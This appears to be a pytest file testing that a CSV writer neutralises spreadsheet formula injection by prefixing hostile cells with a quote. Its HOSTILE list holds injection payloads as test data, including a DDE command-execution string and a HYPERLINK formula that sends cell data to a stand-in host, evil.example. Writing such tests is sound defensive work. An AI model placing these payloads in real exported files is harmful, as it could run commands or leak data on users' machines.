"""CSV that a spreadsheet opens without running anything."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import numpy as np
import pytest

from serve_app.csv_text import csv_line

HOSTILE = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+1",
    "-1+1",
    "-5.jpg",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\x00=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_never_starts_a_formula(text: str) -> None:
    """The cell has a single quote in front and stands in double quotes; the text behind it is unchanged."""
    line = csv_line(["a.jpg", text, 0.5])
    assert line.startswith("a.jpg,\"'")
    assert next(csv.reader(io.StringIO(line, newline=""))) == ["a.jpg", f"'{text}", "0.5"]


def test_numbers_stay_numbers() -> None:
    """Negative numbers of every kind are written without quotes, and NaN and None as empty cells."""
    numbers = [-1, -0.5, np.float32(-2), np.int64(-3), Decimal("-4.5"), 1e-7, float("nan"), np.nan, None]
    assert csv_line(numbers) == "-1,-0.5,-2.0,-3,-4.5,1e-07,,,\n"


@pytest.mark.parametrize("text", ["IMG 1-2.jpg", "a=b", "a@b", "'quoted'", "名前.jpg", "", "ice cream"])
def test_other_text_is_unchanged(text: str) -> None:
    assert csv_line([text, 1]) == f"{text},1\n"


@pytest.mark.parametrize("text", ["a,b", 'say "x"', "a\nb", "a\r\nb", "a;=1+1", "a\t=1+1", "a|b"])
def test_text_with_separators_is_quoted(text: str) -> None:
    """Separators of any locale, quotes and line breaks cannot end a cell: a spreadsheet may split at semicolons."""
    line = csv_line([text, 1])
    assert line.startswith('"')
    assert next(csv.reader(io.StringIO(line, newline=""))) == [text, "1"]
